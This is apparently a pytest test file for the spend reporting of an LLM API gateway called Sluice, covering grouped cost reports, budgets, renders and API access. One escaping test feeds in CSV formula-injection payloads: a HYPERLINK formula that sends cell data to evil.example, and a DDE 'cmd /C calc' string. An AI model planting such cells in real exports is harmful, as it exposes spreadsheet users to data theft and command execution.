import csv
import io
import re
import shutil
import subprocess

import pytest

from gateway.clock import FakeClock
from gateway.mock_upstream import MockUpstream
from gateway.spend.ledger import insert_rows
from gateway.spend.reports import ReportError, ReportQuery, budget_burn, finance_report, grouped
from gateway.spend.reports_render import to_html
from gateway.spend.service import SpendService
from tests.spend.gw import gateway_config, running
from tests.spend.helpers import make_config
from tests.spend.test_ledger import row

DAY0 = 1_763_942_400.0  # 2025-11-24
MASTER = "report-master"


def seed(engine):
    rows = []
    for d in range(5):
        day = f"2025-11-{24 + d}"
        for t, cost in (("t-ml", 0.4 + d * 0.1), ("t-fin", 0.2)):
            for i in range(3):
                rows.append(row(f"{day}-{t}-{i}", ts=DAY0 + d * 86400 + i * 60, cost=cost, team_id=t, day=day,
                                key_id=f"k-{t}", requested_model="gpt-4o" if i else "claude"))
    rows.append(row("u1", ts=DAY0 + 5, cost=None, team_id="t-ml", day="2025-11-24", requested_model="mystery"))
    rows.append(row("h1", ts=DAY0 + 6, cost=0.0, team_id="t-ml", day="2025-11-24", cache_status="hit",
                    cost_saved_usd=0.3))
    insert_rows(engine, rows)
    return rows


@pytest.fixture
def svc(tmp_path):
    s = SpendService(make_config(tmp_path))
    s.migrate()
    seed(s.engine)
    yield s
    s.engine.dispose()


def test_grouping_filters_and_unknown_dimension(svc):
    by_team = {r["team"]: r for r in grouped(svc.engine, ReportQuery(by=["team"]))}
    assert by_team["t-fin"]["cost_usd"] == pytest.approx(0.2 * 15)
    assert by_team["t-ml"]["unpriced_requests"] == 1 and by_team["t-ml"]["cache_hits"] == 1
    assert by_team["t-ml"]["cost_saved_usd"] == pytest.approx(0.3)
    one_day = grouped(svc.engine, ReportQuery(DAY0, DAY0 + 86400, ["team"], "t-fin"))
    assert [(r["team"], r["requests"]) for r in one_day] == [("t-fin", 3)]
    with pytest.raises(ReportError, match="choose from"):
        ReportQuery(by=["colour"])


def test_budget_burn_uses_the_current_period(svc):
    from gateway.spend.keystore import KeyStore

    ks = KeyStore(svc.engine, type("H", (), {"hash": staticmethod(lambda p: p[-20:])})(), clock=FakeClock(wall=DAY0))
    t = ks.create_team("ml", budget_usd=2.0, budget_period="day")
    insert_rows(svc.engine, [row("x1", ts=DAY0 + 100, cost=1.5, team_id=t.id), row("x2", ts=DAY0 - 100, cost=5, team_id=t.id)])
    (b,) = budget_burn(svc.engine, DAY0 + 3600)
    assert b.label == "team ml" and b.spent_usd == pytest.approx(1.5) and b.fraction == pytest.approx(0.75)


def test_html_numbers_match_the_csv(svc):
    q = ReportQuery(by=["team"])
    rows = grouped(svc.engine, q)
    html = to_html(finance_report(svc.engine, q, DAY0 + 5 * 86400), rows, q.by)
    total = float(re.search(r'id="total-cost" data-value="([0-9.]+)"', html).group(1))
    assert total == pytest.approx(sum(r["cost_usd"] for r in rows))
    bars = [float(v) for v in re.findall(r'data-group="[^"]*" data-value="([0-9.]+)"', html)]
    assert sum(bars) == pytest.approx(total)  # the stacked day chart accounts for every dollar
    assert "mystery" in html  # unpriced section names the model
    assert html.count("<svg") >= 3


async def test_report_api_admin_sees_all_team_key_sees_its_team(tmp_path, monkeypatch):
    monkeypatch.setenv("SLUICE_MASTER_KEY", MASTER)
    with MockUpstream() as m:
        config = gateway_config(tmp_path, m.base_url, auth={"enabled": True})
        async with running(config) as (app, client):
            svc = app.gateway.services.spend
            seed(svc.engine)
            admin = {"authorization": f"Bearer {MASTER}"}
            r = await client.get("/sluice/v1/spend/report?by=team&format=json", headers=admin)
            assert r.status_code == 200
            assert {x["team"] for x in r.json()["rows"]} == {"t-ml", "t-fin"}
            team = (await client.post("/sluice/v1/teams", json={"name": "fin"}, headers=admin)).json()
            insert_rows(svc.engine, [row("f1", ts=DAY0, cost=0.01, team_id=team["id"])])
            key = (await client.post("/sluice/v1/keys", json={"team": "fin"}, headers=admin)).json()["key"]
            mine = await client.get("/sluice/v1/spend/report?by=team,model&format=csv",
                                    headers={"authorization": f"Bearer {key}"})
            assert mine.status_code == 200 and mine.headers["content-type"].startswith("text/csv")
            teams = {r["team"] for r in csv.DictReader(io.StringIO(mine.text))}
            assert teams == {team["id"]}
            r = await client.get("/sluice/v1/spend/report?team=t-ml", headers={"authorization": f"Bearer {key}"})
            assert r.status_code == 403
            lone = (await client.post("/sluice/v1/keys", json={}, headers=admin)).json()["key"]
            r = await client.get("/sluice/v1/spend/report", headers={"authorization": f"Bearer {lone}"})
            assert r.status_code == 403 and r.json()["error"]["code"] == "report_forbidden"
            assert (await client.get("/sluice/v1/spend/report")).status_code == 401
            r = await client.get("/sluice/v1/spend/report?by=nope", headers=admin)
            assert r.status_code == 400 and "choose from" in r.json()["error"]["message"]
            r = await client.get("/sluice/v1/spend/report?format=html", headers=admin)
            assert r.headers["content-type"].startswith("text/html") and "<svg" in r.text


@pytest.mark.slow
def test_html_report_renders_in_headless_chromium(svc, tmp_path):
    from PIL import Image

    exe = shutil.which("chromium") or shutil.which("chromium-browser")
    if exe is None:
        pytest.fail("chromium is not installed; run: apt-get install chromium (.ci/run does this)")
    q = ReportQuery(by=["team", "model"])
    rows = grouped(svc.engine, q)
    page = tmp_path / "report.html"
    page.write_text(to_html(finance_report(svc.engine, q, DAY0 + 5 * 86400), rows, q.by))
    shot = tmp_path / "shot.png"
    # Chart region: crop the stacked-bar chart area and check it holds coloured (non-grey) pixels.
    proc = subprocess.run([exe, "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                           "--hide-scrollbars", f"--screenshot={shot}", "--window-size=1000,900",
                           page.as_uri()], check=False, capture_output=True, timeout=90)
    assert shot.exists(), proc.stderr.decode()[-2000:]
    img = Image.open(shot).convert("RGB")
    colours = img.getcolors(maxcolors=1_000_000)
    assert colours is not None and len(colours) > 20  # not blank
    palette_hits = sum(n for n, (r, g, b) in colours if (r, g, b) in {(0x4e, 0x79, 0xa7), (0xf2, 0x8e, 0x2b)})
    assert palette_hits > 2000  # the bars (team colours) were drawn, not just text
    # and the DOM numbers the browser sees match the CSV
    dom = subprocess.run([exe, "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                          "--dump-dom", page.as_uri()], check=False, capture_output=True, timeout=90).stdout.decode()
    total = float(re.search(r'id="total-cost" data-value="([0-9.]+)"', dom).group(1))
    from gateway.spend.reports_render import to_csv

    cells = [r["cost_usd"] for r in csv.DictReader(io.StringIO(to_csv(rows, q.by)))]
    assert "" in cells  # a wholly unpriced group has no cost (not 0.0); the total is of the priced ones
    assert total == pytest.approx(sum(float(c) for c in cells if c))


def test_no_format_prints_zero_for_an_unpriced_group_and_names_sit_beside_ids(svc, monkeypatch):
    """Reproduced: table, CSV and JSON printed cost_usd 0.0 for unpriced groups; teams and keys were ids only."""
    from gateway.spend.reports_render import to_csv, to_json, to_table

    monkeypatch.setenv("SLUICE_KEY_SECRET", "report-secret")
    team = svc.store.create_team("ml-platform")
    insert_rows(svc.engine, [row("named", ts=DAY0 + 7, cost=0.5, team_id=team.id, day="2025-11-24"),
                             row("partial", ts=DAY0 + 8, cost=0.25, team_id=team.id, day="2025-11-24",
                                 partially_priced=True)])
    q = ReportQuery(by=["model"])
    rows = {r["model"]: r for r in grouped(svc.engine, q)}
    assert rows["mystery"]["cost_usd"] is None and rows["mystery"]["price_state"] == "unpriced"
    assert rows["gpt-4o"]["price_state"] == "partial"  # one partially priced row: its cost is a lower bound
    assert rows["claude"]["price_state"] == "priced"
    n, cost = rows["claude"]["requests"], rows["claude"]["cost_usd"]
    assert rows["claude"]["cost_per_1k_requests"] == pytest.approx(cost / n * 1000)
    table = to_table(list(rows.values()), q.by)
    (line,) = [x for x in table.splitlines() if "mystery" in x]
    assert "unpriced" in line and "0.000000" not in line.split("mystery", 1)[1].split("│")[2]
    (csv_row,) = [r for r in csv.DictReader(io.StringIO(to_csv(list(rows.values()), q.by))) if r["model"] == "mystery"]
    assert csv_row["cost_usd"] == "" and csv_row["price_state"] == "unpriced"
    import orjson
    (json_row,) = [r for r in orjson.loads(to_json(list(rows.values()), q.by))["rows"] if r["model"] == "mystery"]
    assert json_row["cost_usd"] is None
    by_team = grouped(svc.engine, ReportQuery(by=["team"]))
    assert {r["team"]: r["team_name"] for r in by_team}[team.id] == "ml-platform"
    assert ",ml-platform," in to_csv(by_team, ["team"])


def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(svc):
    """Reproduced: =HYPERLINK(...) (a model name from an unauthenticated client) and @SUM(...) (a
    key's user) reached spend CSVs unescaped."""
    from gateway.spend.reports_render import to_csv

    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    insert_rows(svc.engine, [row("evil", ts=DAY0 + 9, cost=0.1, requested_model=evil, user_id="@SUM(1+1)*cmd|' /C calc'!A0"),
                             row("tab", ts=DAY0 + 10, cost=0.1, requested_model="\t=1+1", user_id="-2+3")])
    out = to_csv(grouped(svc.engine, ReportQuery(by=["model", "user"])), ["model", "user"])
    cells = [c for r in csv.reader(io.StringIO(out)) for c in r]
    assert "'" + evil in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert "'\t=1+1" in cells and "'-2+3" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not c[1:2].isdigit())]


def test_refused_requests_of_an_unpriced_model_do_not_make_it_priced(svc):
    """Review finding: a refused (no tokens, $0) row of an unpriced model turned its group `partial`, $0.0."""
    insert_rows(svc.engine, [row("m1", ts=DAY0 + 11, cost=None, requested_model="orphan"),
                             row("m2", ts=DAY0 + 12, cost=0.0, requested_model="orphan", status_code=429,
                                 prompt_tokens=0, completion_tokens=0)])
    (r,) = [x for x in grouped(svc.engine, ReportQuery(by=["model"])) if x["model"] == "orphan"]
    assert (r["cost_usd"], r["price_state"], r["requests"]) == (None, "unpriced", 2)
    (claude,) = [x for x in grouped(svc.engine, ReportQuery(by=["model"])) if x["model"] == "claude"]
    assert "_used" not in claude and "_priced" not in claude
